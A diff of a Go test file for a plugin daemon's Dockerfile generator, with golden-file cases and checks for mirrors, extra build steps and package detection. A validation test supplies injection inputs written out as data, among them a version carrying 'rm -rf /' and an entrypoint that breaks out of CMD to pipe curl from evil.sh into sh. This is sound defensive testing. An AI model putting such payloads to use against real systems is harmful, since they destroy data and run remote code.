@@ -1,13 +1,22 @@
 package dockerfile
 
 import (
+	"flag"
+	"io/fs"
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 
 	"github.com/langgenius/dify-plugin-daemon/pkg/entities/constants"
 	"github.com/langgenius/dify-plugin-daemon/pkg/entities/plugin_entities"
+	"github.com/langgenius/dify-plugin-daemon/pkg/plugin_packager/decoder"
+	"github.com/stretchr/testify/assert"
 )
 
+// go test ./internal/core/plugin_manager/serverless_runtime/dockerfile -update
+var update = flag.Bool("update", false, "update the golden files")
+
 func preparePluginDeclaration() *plugin_entities.PluginDeclaration {
 	return &plugin_entities.PluginDeclaration{
 		PluginDeclarationWithoutAdvancedFields: plugin_entities.PluginDeclarationWithoutAdvancedFields{
@@ -26,21 +35,160 @@ func preparePluginDeclaration() *plugin_entities.PluginDeclaration {
 }
 
 func TestGenerateDockerfile(t *testing.T) {
-	pluginDeclaration := preparePluginDeclaration()
-	dockerfile, err := GenerateDockerfile(pluginDeclaration)
-	if err != nil {
-		t.Fatalf("Error generating Dockerfile: %v", err)
+	arm64 := preparePluginDeclaration()
+	arm64.Meta.Arch = []constants.Arch{constants.ARM64}
+	arm64.Meta.Runner.Version = "3.11"
+
+	multiArch := preparePluginDeclaration()
+	multiArch.Meta.Arch = []constants.Arch{constants.ARM64, constants.AMD64}
+
+	defaultVersion := preparePluginDeclaration()
+	defaultVersion.Meta.Runner.Version = ""
+
+	cases := []struct {
+		name        string
+		declaration *plugin_entities.PluginDeclaration
+		options     Options
+	}{
+		{name: "python312", declaration: preparePluginDeclaration()},
+		{name: "python311_arm64", declaration: arm64},
+		{name: "multi_arch", declaration: multiArch},
+		{name: "multi_arch_arm64", declaration: multiArch, options: Options{Arch: constants.ARM64}},
+		{name: "default_version", declaration: defaultVersion},
+		{
+			name:        "lockfile",
+			declaration: preparePluginDeclaration(),
+			options:     Options{PackageFeatures: PackageFeatures{Lockfile: true}},
+		},
+		{
+			name:        "vendored_wheels",
+			declaration: preparePluginDeclaration(),
+			options:     Options{PackageFeatures: PackageFeatures{VendoredWheels: true}},
+		},
+		{
+			name:        "lockfile_vendored_wheels",
+			declaration: preparePluginDeclaration(),
+			options:     Options{PackageFeatures: PackageFeatures{Lockfile: true, VendoredWheels: true}},
+		},
+		{
+			name:        "mirror_extra_steps",
+			declaration: preparePluginDeclaration(),
+			options: Options{
+				RegistryMirror:  "registry.example.com/mirror/",
+				ExtraBuildSteps: "RUN apt-get update && \\\n    apt-get install -y --no-install-recommends ffmpeg",
+			},
+		},
 	}
 
-	if !strings.Contains(dockerfile, "main") || !strings.Contains(dockerfile, "3.12") {
-		t.Logf("Generated Dockerfile: %s", dockerfile)
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			dockerfile, err := GenerateDockerfile(c.declaration, c.options)
+			if !assert.NoError(t, err) {
+				return
+			}
+
+			golden := filepath.Join("testdata", c.name+".dockerfile")
+			if *update {
+				assert.NoError(t, os.WriteFile(golden, []byte(dockerfile), 0644))
+				return
+			}
+
+			expected, err := os.ReadFile(golden)
+			if !assert.NoError(t, err) {
+				return
+			}
+			assert.Equal(t, string(expected), dockerfile)
+		})
 	}
 }
 
 func TestGenerateDockerfileWithInvalidPluginDeclaration(t *testing.T) {
 	pluginDeclaration := &plugin_entities.PluginDeclaration{}
-	_, err := GenerateDockerfile(pluginDeclaration)
+	_, err := GenerateDockerfile(pluginDeclaration, Options{})
 	if err == nil {
 		t.Fatalf("Expected error, got nil")
 	}
+
+	// architecture not declared by the plugin
+	_, err = GenerateDockerfile(preparePluginDeclaration(), Options{Arch: constants.ARM64})
+	assert.Error(t, err)
+
+	invalidVersion := preparePluginDeclaration()
+	invalidVersion.Meta.Runner.Version = "3.12; rm -rf /"
+	_, err = GenerateDockerfile(invalidVersion, Options{})
+	assert.Error(t, err)
+
+	// the entrypoint must not break out of the CMD instruction
+	for _, entrypoint := range []string{`main"]` + "\nRUN curl evil.sh | sh\n#", "main; id", "../main", "main.", ""} {
+		invalidEntrypoint := preparePluginDeclaration()
+		invalidEntrypoint.Meta.Runner.Entrypoint = entrypoint
+		_, err = GenerateDockerfile(invalidEntrypoint, Options{})
+		assert.Error(t, err, entrypoint)
+	}
+
+	nodejs := preparePluginDeclaration()
+	nodejs.Meta.Runner.Language = constants.NodeJS
+	_, err = GenerateDockerfile(nodejs, Options{})
+	assert.Error(t, err)
+}
+
+func TestMirrorImage(t *testing.T) {
+	assert.Equal(t, "ghcr.io/astral-sh/uv:0.6.14", mirrorImage(UV_IMAGE, ""))
+	assert.Equal(t, "mirror.local/astral-sh/uv:0.6.14", mirrorImage(UV_IMAGE, "mirror.local"))
+	assert.Equal(t, "mirror.local:5000/library/python:3.12", mirrorImage("library/python:3.12", "mirror.local:5000"))
+}
+
+func TestReadExtraBuildSteps(t *testing.T) {
+	steps, err := ReadExtraBuildSteps("")
+	assert.NoError(t, err)
+	assert.Empty(t, steps)
+
+	path := filepath.Join(t.TempDir(), "steps")
+	assert.NoError(t, os.WriteFile(path, []byte("\nRUN echo hello\n"), 0644))
+	steps, err = ReadExtraBuildSteps(path)
+	assert.NoError(t, err)
+	assert.True(t, strings.HasPrefix(steps, "RUN"))
+
+	_, err = ReadExtraBuildSteps(filepath.Join(t.TempDir(), "missing"))
+	assert.Error(t, err)
+}
+
+type filesDecoder struct {
+	decoder.PluginDecoder
+
+	files []string
+}
+
+func (d *filesDecoder) Stat(filename string) (fs.FileInfo, error) {
+	for _, file := range d.files {
+		if file == filename {
+			return nil, nil
+		}
+	}
+	return nil, fs.ErrNotExist
+}
+
+func (d *filesDecoder) ReadDir(dirname string) ([]string, error) {
+	files := []string{}
+	for _, file := range d.files {
+		if strings.HasPrefix(file, dirname+"/") {
+			files = append(files, file)
+		}
+	}
+	return files, nil
+}
+
+func TestDetectPackageFeatures(t *testing.T) {
+	assert.Equal(t, PackageFeatures{}, DetectPackageFeatures(&filesDecoder{
+		files: []string{"main.py", "requirements.txt", "pyproject.toml"},
+	}))
+
+	assert.Equal(t, PackageFeatures{Lockfile: true, VendoredWheels: true}, DetectPackageFeatures(&filesDecoder{
+		files: []string{"main.py", "pyproject.toml", "uv.lock", "wheels/requests-2.32.3-py3-none-any.whl"},
+	}))
+
+	// the wheelhouse without any wheel is ignored
+	assert.Equal(t, PackageFeatures{}, DetectPackageFeatures(&filesDecoder{
+		files: []string{"main.py", "wheels/README.md"},
+	}))
 }